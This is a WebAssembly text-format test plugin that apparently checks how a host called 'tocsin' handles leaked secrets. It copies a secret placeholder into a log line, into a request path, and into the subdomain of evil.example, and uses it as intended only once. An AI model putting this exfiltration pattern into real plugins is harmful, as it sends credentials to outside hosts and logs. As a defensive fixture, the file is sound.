;; Takes the first secret's placeholder from its input and puts it where it has no business: into a line of its log, and into requests to
;; another host (d0) and as a part of a host's name (d1). Only d2 uses it as it is meant: as the URL.
(module
  (import "extism:host/env" "input_offset" (func $offset (result i64)))
  (import "extism:host/env" "input_length" (func $length (result i64)))
  (import "extism:host/env" "log_error" (func $log (param i64)))
  (import "tocsin:host/env" "input_read" (func $read (param i32 i32)))
  (import "tocsin:host/env" "output_write" (func $out (param i32 i32)))
  (memory (export "memory") 2)
  (data (i32.const 0) "{\22requests\22:[{\22deliveries\22:[\22d0\22],\22http\22:{\22method\22:\22POST\22,\22url\22:\22http://127.0.0.1:9/tocsin-secret-00000000000000000000000000000000\22}},{\22deliveries\22:[\22d1\22],\22http\22:{\22method\22:\22POST\22,\22url\22:\22http://tocsin-secret-00000000000000000000000000000000.evil.example/\22}},{\22deliveries\22:[\22d2\22],\22http\22:{\22method\22:\22POST\22,\22url\22:\22tocsin-secret-00000000000000000000000000000000\22,\22body\22:\22fine\22}}]}")
  (func (export "render") (result i32) (local $at i32)
    (call $log (call $offset))
    (call $read (i32.const 65536) (i32.const 65536))
    (local.set $at (i32.const 65536))
    (loop ;; to "tocsin-s"; an input without it ends in a trap
      (if (i64.ne (i64.load (local.get $at)) (i64.const 0x732d6e6973636f74)) (then
        (local.set $at (i32.add (local.get $at) (i32.const 1)))
        (br 1))))
    (memory.copy (i32.const 84) (local.get $at) (i32.const 46))
    (memory.copy (i32.const 193) (local.get $at) (i32.const 46))
    (memory.copy (i32.const 309) (local.get $at) (i32.const 46))
    (call $out (i32.const 0) (i32.const 374))
    (i32.const 0)))
